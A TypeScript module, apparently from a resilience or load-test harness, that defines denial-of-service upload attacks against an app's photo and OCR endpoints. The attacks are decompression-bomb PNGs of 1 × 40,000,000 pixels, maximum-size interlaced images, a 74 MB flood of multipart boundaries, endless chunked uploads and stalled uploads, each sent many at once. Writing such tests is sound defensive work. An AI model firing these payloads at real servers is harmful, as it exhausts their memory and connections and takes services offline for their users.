import { request } from 'node:http';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** What one user sends at a time, again and again for as long as the attack lasts. */
export interface Attack {
  readonly name: string;
  /** Sendings at once. */
  readonly atOnce: number;
  /** Resolves when the server has answered and the connection is over; never throws. */
  send(url: string, cookie: string): Promise<void>;
}

const BORDER = 'b';
const HEAD = `--${BORDER}\r\nContent-Disposition: form-data; name="imagem"; filename="f.jpg"\r\n\r\n`;
const MB = 1024 * 1024;

/** Posts chunks as they come, whatever the server says meanwhile. */
function postChunks(
  url: string,
  path: string,
  cookie: string,
  chunks: Iterable<Buffer>,
  { ends }: { ends: boolean },
): Promise<void> {
  return new Promise((resolve) => {
    const type = `multipart/form-data; boundary=${BORDER}`;
    const call = request(url + path, {
      method: 'POST',
      agent: false,
      headers: { cookie, 'content-type': type, 'transfer-encoding': 'chunked' },
    });
    call.on('response', (answer) => answer.resume());
    call.on('error', () => resolve()).on('close', () => resolve());
    const iterator = chunks[Symbol.iterator]();
    const next = (): void => {
      if (call.destroyed) return;
      const { value, done } = iterator.next();
      if (!done) call.write(value, () => setImmediate(next));
      else if (ends) call.end();
    };
    next();
  });
}

async function postPhoto(url: string, cookie: string, photo: Buffer): Promise<void> {
  const form = new FormData();
  form.append('pasta', 'checkin-combustivel');
  form.append('placa', 'RWB5K21');
  form.append('foto', new Blob([new Uint8Array(photo)]), 'f.png');
  const answer = await fetch(`${url}/api/fotos`, {
    method: 'POST',
    headers: { cookie },
    body: form,
  }).catch(() => undefined);
  await answer?.arrayBuffer();
}

/** A black PNG of any size; what it unpacks to is a thousand times as much. */
function blackPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc((width + 1) * height))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function* repeat(first: Buffer, chunk: Buffer, times: number): Generator<Buffer> {
  yield first;
  for (let i = 0; i < times; i++) yield chunk;
}

/** Uploads that unpack, go on after their refusal, or stall. */
export async function uploadAttacks(): Promise<Attack[]> {
  const column = blackPng(1, 40_000_000);
  const row = blackPng(40_000_000, 1);
  const largest = await sharp({
    create: { width: 8000, height: 5000, channels: 4, background: '#0a14' },
  })
    .png({ compressionLevel: 1, progressive: true })
    .toBuffer();
  const zeros = Buffer.alloc(64 * 1024);
  const borders = Buffer.from(`--${BORDER}\r\n`.repeat(13_000));
  return [
    {
      name: 'PNG of 1 × 40,000,000, four at once',
      atOnce: 4,
      send: (url, cookie) => postPhoto(url, cookie, column),
    },
    {
      name: 'PNG of 40,000,000 × 1, four at once',
      atOnce: 4,
      send: (url, cookie) => postPhoto(url, cookie, row),
    },
    {
      name: 'largest PNG allowed (40 MP, interlaced), eight at once',
      atOnce: 8,
      send: (url, cookie) => postPhoto(url, cookie, largest),
    },
    {
      name: '74 MB of part borders',
      atOnce: 2,
      send: (url, cookie) =>
        postChunks(url, '/api/ocr', cookie, repeat(borders, borders, 1_000), { ends: true }),
    },
    {
      name: 'file without end, chunked',
      atOnce: 2,
      send: (url, cookie) =>
        postChunks(url, '/api/ocr', cookie, repeat(Buffer.from(HEAD), zeros, 1e9), { ends: false }),
    },
    {
      name: 'uploads of 7 MB that stall, twenty at once',
      atOnce: 20,
      send: (url, cookie) =>
        postChunks(
          url,
          '/api/ocr',
          cookie,
          repeat(Buffer.from(HEAD), zeros, (7 * MB) / zeros.length),
          {
            ends: false,
          },
        ),
    },
  ];
}
